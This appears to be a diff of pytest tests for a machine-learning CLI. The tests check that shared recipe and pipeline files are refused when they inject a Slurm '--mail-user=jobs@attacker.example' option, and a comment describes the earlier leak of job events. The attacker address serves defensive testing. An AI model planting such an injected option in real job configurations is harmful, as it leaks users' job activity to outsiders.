@@ -111,3 +111,30 @@ def test_score_refuses_an_export_marker_nested_too_deeply(model_dir, tmp_path, c
     refused(capsys, ["score", "--pairs", str(pairs), str(model)], f"{model / 'dsrecipes_export.json'}: unreadable",
             "nested too deeply")
     assert not (tmp_path / "pairs.rewards.jsonl").exists()
+
+
+MAIL = "--mail-user=jobs@attacker.example"
+
+
+def test_a_shared_recipe_cannot_have_slurm_mail_the_jobs_events_to_its_address(tmp_path, monkeypatch, capsys):
+    # Was: launcher.slurm_sbatch_args is allow-listed element by element, so a shared recipe's '--mail-user=ADDR'
+    # (with --mail-type=ALL) went into the batch script: Slurm mailed the user's job events to the recipe's author.
+    from tests.test_messages_hostile import refused
+
+    monkeypatch.chdir(tmp_path)
+    recipe = tmp_path / "shared.yaml"
+    recipe.write_text(f'launcher:\n  slurm_sbatch_args: ["--mail-type=ALL", "{MAIL}"]\n', encoding="utf-8")
+    refused(capsys, ["validate", "launcher=slurm", f"recipe={recipe}"],
+            f"launcher.slurm_sbatch_args[1]: --mail-user set by {recipe}:2, a shared recipe")
+    assert cli_main(["validate", "launcher=slurm", f"launcher.slurm_sbatch_args=['--mail-type=ALL','{MAIL}']"]) == 0
+    recipe.write_text('launcher:\n  slurm_sbatch_args: ["--qos=high"]\n', encoding="utf-8")
+    assert cli_main(["validate", "launcher=slurm", f"recipe={recipe}"]) == 0
+
+
+def test_a_pipeline_file_cannot_have_slurm_mail_the_jobs_events_to_its_address(tmp_path, capsys):
+    from tests.test_messages_hostile import refused
+
+    pipeline = tmp_path / "p.yaml"
+    pipeline.write_text(f'stages:\n  - name: a\n    set:\n      launcher: {{slurm_sbatch_args: ["{MAIL}"]}}\n',
+                        encoding="utf-8")
+    refused(capsys, ["pipeline", str(pipeline)], f"{pipeline}:4: stages[0].set.launcher.slurm_sbatch_args: --mail-user")
